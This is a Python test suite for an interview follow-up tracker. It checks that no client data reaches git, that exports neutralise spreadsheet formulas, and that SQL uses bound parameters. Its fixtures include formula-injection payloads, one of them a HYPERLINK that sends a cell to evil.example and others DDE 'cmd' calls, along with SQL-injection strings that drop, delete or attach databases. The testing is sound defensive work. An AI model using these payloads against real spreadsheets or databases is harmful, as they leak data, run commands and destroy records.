"""Nothing leaks: no data in git, no formula runs from an export, no SQL from user text."""

from __future__ import annotations

import ast
import shutil
import sqlite3
import subprocess
from pathlib import Path

import pandas as pd
import pytest
from builders import DEMO_TODAY
from openpyxl import load_workbook

import followup_kit as fk
from followup_kit import demo, schema
from followup_kit.spreadsheets import FORMULA_START

REPO = Path(__file__).resolve().parents[1]
LIVE_STORE = REPO / "data" / "workbook.sqlite"
DATABASE_SUFFIXES = (".sqlite", ".sqlite3", ".db", ".db3", ".duckdb", "-wal", "-shm", "-journal")
SQLITE_MAGIC = b"SQLite format 3\x00"
TODAY = DEMO_TODAY.isoformat()


# -- nothing from the live store in git -------------------------------------------------


def tracked_files(repo: Path) -> list[Path]:
    """Every file git tracks in ``repo`` that exists on disk."""
    out = subprocess.run(
        ["git", "ls-files", "-z"], cwd=repo, capture_output=True, check=True, timeout=60
    ).stdout
    paths = (repo / name for name in out.decode("utf-8", "surrogateescape").split("\0") if name)
    return [p for p in paths if p.is_file()]


def database_files(files: list[Path]) -> list[Path]:
    """Files that are databases, by name or by their first bytes."""
    found = []
    for path in files:
        with path.open("rb") as fh:
            head = fh.read(16)
        if path.name.lower().endswith(DATABASE_SUFFIXES) or head == SQLITE_MAGIC:
            found.append(path)
    return found


def live_values(store: Path) -> set[str]:
    """Client names, user names and emails held in a store, read without changing it.

    Names that are also in the synthetic demo cohort (committed on purpose) and very
    short values are left out: they would match by chance, not because of a leak.
    """
    con = sqlite3.connect(f"file:{store}?mode=ro", uri=True)
    try:
        values = {v for (v,) in con.execute("SELECT name FROM clients") if v}
        values |= {v for (v,) in con.execute("SELECT username FROM clients") if v}
        values |= {v for (v,) in con.execute("SELECT email FROM interviewers") if v}
    finally:
        con.close()
    made_up = set(demo.generate()["clients"]["name"])
    return {v.strip() for v in values if len(v.strip()) >= 6 and v not in made_up}


def files_containing(files: list[Path], values: set[str]) -> dict[str, list[str]]:
    """For each tracked file, which of ``values`` it contains (case-insensitive)."""
    wanted = {v.casefold() for v in values}
    hits: dict[str, list[str]] = {}
    for path in files:
        if path.stat().st_size > 20_000_000:
            continue
        text = path.read_bytes().decode("utf-8", "replace").casefold()
        found = sorted(v for v in wanted if v in text)
        if found:
            hits[str(path)] = found
    return hits


needs_git = pytest.mark.skipif(shutil.which("git") is None, reason="git is not installed")


@needs_git
def test_the_leak_scan_finds_a_database_and_a_client_row(tmp_path):
    """The scan itself works: a committed database and a client's name are caught."""
    repo = tmp_path / "repo"
    repo.mkdir()
    store = tmp_path / "live.sqlite"
    with fk.open_workbook(store, today=TODAY) as wb:
        wb.add_client("Ottoline Quarrie-Smythe", username="oquarrie")
    (repo / "notes.md").write_text("Follow up with ottoline quarrie-smythe on Friday.\n")
    (repo / "renamed.bin").write_bytes(store.read_bytes())
    (repo / "clean.txt").write_text("nothing personal here\n")
    git = ["git", "-c", "user.name=t", "-c", "user.email=t@example.org"]
    subprocess.run([*git, "init", "-q"], cwd=repo, check=True)
    subprocess.run([*git, "add", "."], cwd=repo, check=True)
    files = tracked_files(repo)
    assert [p.name for p in database_files(files)] == ["renamed.bin"]
    hits = files_containing(files, live_values(store))
    assert {Path(p).name for p in hits} == {"notes.md", "renamed.bin"}
    assert hits[str(repo / "notes.md")] == ["ottoline quarrie-smythe"]


@needs_git
def test_no_tracked_file_is_a_database():
    if not (REPO / ".git").exists():
        pytest.skip("not a git checkout")
    assert database_files(tracked_files(REPO)) == []


@needs_git
def test_no_tracked_file_holds_a_row_of_the_live_store():
    if not (REPO / ".git").exists():
        pytest.skip("not a git checkout")
    if not LIVE_STORE.exists():
        pytest.skip(f"no live store at {LIVE_STORE} (nothing to leak yet)")
    values = live_values(LIVE_STORE)
    assert files_containing(tracked_files(REPO), values) == {}


def test_the_live_store_is_ignored_by_git():
    if shutil.which("git") is None or not (REPO / ".git").exists():
        pytest.skip("not a git checkout")
    probes = ["data/workbook.sqlite", "data/workbook.sqlite-wal", "data/recordings/a.webm"]
    done = subprocess.run(
        ["git", "check-ignore", "--no-index", *probes], cwd=REPO, capture_output=True, text=True
    )
    assert sorted(done.stdout.split()) == sorted(probes)


# -- exports never carry a live formula -------------------------------------------------

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "=cmd|' /C notepad'!'A1'",
]


def _text_fields(table: str) -> list[str]:
    return [f.name for f in schema.TABLES[table].inputs if f.kind == "text"]


@pytest.fixture
def poisoned(tmp_path):
    """A store where every free-text field of every table starts like a formula."""
    wb = fk.open_workbook(tmp_path / "poison.sqlite", today=TODAY)
    p = iter(PAYLOADS * 20)
    cid = wb.add_client(next(p), cohort=next(p), username=next(p))
    iid = wb.log_interview(
        cid,
        next(p),
        next(p),
        "2026-10-01",
        notes=next(p),
        hr_name=next(p),
        interviewers=[{"name": next(p), "title": next(p), "honorific": next(p)[:20]}],
    )
    wb.update_interview(iid, concerns=next(p))
    wb.log_follow_up(
        iid,
        kind="thank_you",
        channel="email",
        sent_on="2026-10-02",
        script_id=next(p),
        script_version=next(p)[:20],
        notes=next(p),
    )
    wb.log_response(
        iid, received_on="2026-10-05", result="other", feedback=next(p), reflection=next(p)
    )
    wb.skip_step(iid, "status_check", reason=next(p), interviewer=next(p))
    yield wb
    wb.close()


def test_every_text_field_is_poisoned(poisoned):
    for name, frame in poisoned.tables().items():
        for col in _text_fields(name):
            assert frame[col].str.startswith(("=", "+", "-", "@")).all(), (name, col)


def test_csv_export_neutralises_every_formula_cell(poisoned, tmp_path):
    out = poisoned.export(tmp_path / "out")
    for name in poisoned.tables():
        with (out / f"{name}.csv").open(newline="", encoding="utf-8") as fh:
            import csv

            rows = list(csv.reader(fh))
        cells = [cell for row in rows[1:] for cell in row]
        assert not [c for c in cells if c.startswith(FORMULA_START)], name
        text_cols = [rows[0].index(c) for c in _text_fields(name)]
        for row in rows[1:]:
            for i in text_cols:
                assert row[i].startswith("'") and row[i][1] in "=+-@", (name, rows[0][i])


def test_excel_export_has_no_formula_cell(poisoned, tmp_path):
    book = load_workbook(poisoned.export(tmp_path / "out.xlsx"))
    checked = 0
    for sheet in book.worksheets:
        for row in sheet.iter_rows(min_row=2):
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(FORMULA_START), (sheet.title, cell.value)
                    checked += cell.value.startswith("'")
    assert checked >= len(PAYLOADS)


@pytest.mark.parametrize("target", ["out", "out.xlsx"])
def test_neutralised_export_imports_back_to_the_same_text(poisoned, tmp_path, target):
    out = poisoned.export(tmp_path / target)
    with fk.open_workbook(tmp_path / "copy.sqlite", today=TODAY) as copy:
        copy.import_table(out, progress=False)
        for name, frame in poisoned.tables().items():
            for col in _text_fields(name):
                assert copy.tables()[name][col].tolist() == frame[col].tolist(), (name, col)


# -- SQL only through bound parameters --------------------------------------------------

INJECTIONS = [
    "x'); DROP TABLE clients; --",
    "Robert'); DELETE FROM interviews WHERE ('1'='1",
    '" OR ""="',
    "1; UPDATE clients SET name='pwned'",
    "\\'; ATTACH DATABASE '/tmp/pwn.db' AS p; --",
]


@pytest.mark.parametrize("payload", INJECTIONS)
def test_sql_in_user_text_is_stored_verbatim_and_runs_nothing(tmp_path, payload):
    attached_before = Path("/tmp/pwn.db").exists()
    with fk.open_workbook(tmp_path / "inj.sqlite", today=TODAY) as wb:
        bystander = wb.add_client("Bystander Bea")
        cid = wb.add_client(payload, cohort=payload, username=payload)
        iid = wb.log_interview(
            cid, payload, payload, "2026-10-01", notes=payload, interviewers=[payload]
        )
        wb.log_follow_up(
            iid, kind="thank_you", channel="email", sent_on="2026-10-02", notes=payload
        )
        wb.log_response(iid, received_on="2026-10-03", result="offer", feedback=payload)
        wb.update_interview(iid, role=payload + " (edited)")
        clients = wb.clients()
        assert clients["name"].tolist() == ["Bystander Bea", payload]
        assert wb.client_for_user(payload) == cid
        iv = wb.interviews(client_id=cid).iloc[0]
        assert (iv["company"], iv["role"], iv["notes"]) == (payload, payload + " (edited)", payload)
        assert wb.interviewers()["name"].tolist() == [payload]
        assert wb.follow_ups()["notes"].tolist() == [payload]
        assert wb.responses()["feedback"].tolist() == [payload]
        # Injection through the lookups returns nothing, never someone else's rows.
        try:
            assert wb.interviews(client_id=f"{bystander} OR 1=1").empty
        except fk.NotFoundError:
            pass  # refusing the id outright is as good
        assert wb.client_for_user("x' OR '1'='1") is None
        counts = wb.counts()
    assert (counts[["clients", "interviews", "interviewers"]] == [2, 1, 1]).all()
    assert Path("/tmp/pwn.db").exists() == attached_before  # no ATTACH ran
    con = sqlite3.connect(tmp_path / "inj.sqlite")
    tables = {n for (n,) in con.execute("SELECT name FROM sqlite_master WHERE type='table'")}
    con.close()
    assert set(schema.WRITE_ORDER) <= tables


def test_sql_in_a_spreadsheet_is_only_data(tmp_path):
    sheet = tmp_path / "sheet.csv"
    frame = pd.DataFrame(
        {
            "client": INJECTIONS,
            "company": INJECTIONS,
            "role": "Analyst",
            "interview_date": "2026-10-01",
            "interviewers": "Dana; x') OR 1=1 --",
        }
    )
    frame.to_csv(sheet, index=False)
    bad_header = tmp_path / "header.csv"
    bad_header.write_text('client,company,role,interview_date,"x); DROP TABLE clients; --"\n')
    with fk.open_workbook(tmp_path / "s.sqlite", today=TODAY) as wb:
        wb.import_table(sheet, progress=False)
        assert sorted(wb.clients()["name"]) == sorted(INJECTIONS)
        assert set(wb.interviewers()["name"]) == {"Dana", "x') OR 1=1 --"}
        with pytest.raises(fk.BadFileError, match="unknown column"):
            wb.import_table(bad_header)
        assert wb.counts()["clients"] == len(INJECTIONS)


#: Dynamic SQL text in the package, each with the reason it cannot carry user input.
ALLOWED_DYNAMIC_SQL = {
    ("_db.py", "PRAGMA busy_timeout="): "a module constant",
    ("_db.py", "INSERT INTO "): "table and column names from the schema (t.c[col] checks "
    "each); values go as ? parameters",
    ("_db.py", "DROP TABLE "): "upgrading an old store: table names from schema.WRITE_ORDER",
    ("_db.py", "RENAME TO "): "upgrading an old store: table names from schema.WRITE_ORDER",
    ("backup.py", "SELECT max(id) FROM "): "table names from schema.TABLES",
    ("_db.py", "ALTER TABLE "): "table and column names from _ADDED_COLUMNS (a module "
    "constant), the type compiled from the schema; no values",
}
_SQL_CALLS = {"execute", "executemany", "executescript", "exec_driver_sql", "text"}


def _dynamic_sql(tree: ast.AST, source: str) -> list[tuple[int, str]]:
    """Calls that pass SQL built with an f-string, % or .format as their first argument."""
    found = []
    for node in ast.walk(tree):
        if not (isinstance(node, ast.Call) and node.args):
            continue
        func = node.func
        name = func.attr if isinstance(func, ast.Attribute) else getattr(func, "id", "")
        if name not in _SQL_CALLS:
            continue
        arg = node.args[0]
        built = isinstance(arg, ast.JoinedStr) and any(
            isinstance(v, ast.FormattedValue) for v in arg.values
        )
        if name == "text" and not (
            isinstance(func, ast.Name)
            or (isinstance(func.value, ast.Name) and func.value.id in ("sa", "sqlalchemy"))
        ):
            continue  # matplotlib's ax.text, not SQLAlchemy's
        strings = (ast.Constant, ast.JoinedStr)
        built |= (
            isinstance(arg, ast.BinOp)
            and isinstance(arg.op, ast.Mod | ast.Add)
            and (isinstance(arg.left, strings) or isinstance(arg.right, strings))
        )
        built |= (
            isinstance(arg, ast.Call)
            and isinstance(arg.func, ast.Attribute)
            and arg.func.attr == "format"
        )
        if built:
            found.append((node.lineno, ast.get_source_segment(source, arg) or ""))
    return found


def test_sql_text_is_never_built_from_values():
    package = Path(fk.__file__).parent
    unexplained = []
    for path in sorted(package.glob("*.py")):
        source = path.read_text(encoding="utf-8")
        for line, text in _dynamic_sql(ast.parse(source), source):
            if not any(path.name == f and marker in text for f, marker in ALLOWED_DYNAMIC_SQL):
                unexplained.append(f"{path.name}:{line}: {text}")
    assert unexplained == [], "SQL built from values; use bound parameters"


def test_the_dynamic_sql_scan_catches_string_building():
    source = (
        "def f(con, name):\n"
        "    con.execute(f\"SELECT * FROM clients WHERE name = '{name}'\")\n"
        '    con.execute("SELECT %s" % name)\n'
        '    con.execute("SELECT {}".format(name))\n'
        '    con.execute("SELECT ?", (name,))\n'
    )
    assert [line for line, _ in _dynamic_sql(ast.parse(source), source)] == [2, 3, 4]


# -- client-scoped calls return only that client's rows ---------------------------------


def test_client_scoped_calls_return_only_that_clients_rows(tmp_path):
    with fk.open_workbook(tmp_path / "two.sqlite", today=TODAY) as wb:
        wb.load_tables(demo.generate(n_clients=6, seed=11), progress=False)
        for cid in wb.clients()["id"].tolist()[:3]:
            wb.add_recording(cid, f"take-{cid}.webm", b"\x1a\x45\xdf\xa3" * 5, mime="audio/webm")
        everything = wb.tables()
        recordings = wb.recordings()
        owner = everything["interviews"].set_index("id")["client_id"]
        for cid in everything["clients"]["id"].tolist():
            mine = wb.tables(client_id=cid)
            assert mine["clients"]["id"].tolist() == [cid]
            assert (mine["interviews"]["client_id"] == cid).all()
            expected = {
                name: frame[frame["interview_id"].map(owner) == cid]
                for name, frame in everything.items()
                if "interview_id" in frame
            }
            expected["interviews"] = everything["interviews"].query("client_id == @cid")
            for name, frame in expected.items():
                assert mine[name]["id"].tolist() == frame["id"].tolist(), (cid, name)
                single = getattr(wb, name)(client_id=cid)
                assert single["id"].tolist() == frame["id"].tolist(), (cid, name)
            mine_rec = wb.recordings(client_id=cid)
            assert mine_rec["id"].tolist() == recordings.query("client_id == @cid")["id"].tolist()
            assert "data" not in mine_rec.columns
        # Each client's slices together are the whole store: nothing shared, nothing lost.
        total = sum(len(wb.interviews(client_id=c)) for c in everything["clients"]["id"].tolist())
        assert total == len(everything["interviews"])
        assert wb.interviews(client_id=10_000).empty


def test_ids_taken_from_frames_work_in_client_scoped_and_id_calls(tmp_path):
    """``wb.clients()["id"].iloc[0]`` is a NumPy integer; it must work like an int."""
    with fk.open_workbook(tmp_path / "np.sqlite", today=TODAY) as wb:
        wb.load_tables(demo.generate(n_clients=2, seed=1), progress=False)
        cid = wb.clients()["id"].iloc[0]
        iid = wb.interviews(client_id=int(cid))["id"].iloc[0]
        assert not isinstance(cid, int)
        assert len(wb.interviews(client_id=cid)) == len(wb.interviews(client_id=int(cid)))
        assert len(wb.tables(client_id=cid)["follow_ups"]) > 0
        wb.update_interview(iid, notes="from a frame")
        assert wb.delete_interview(iid)["interviews"] == 1
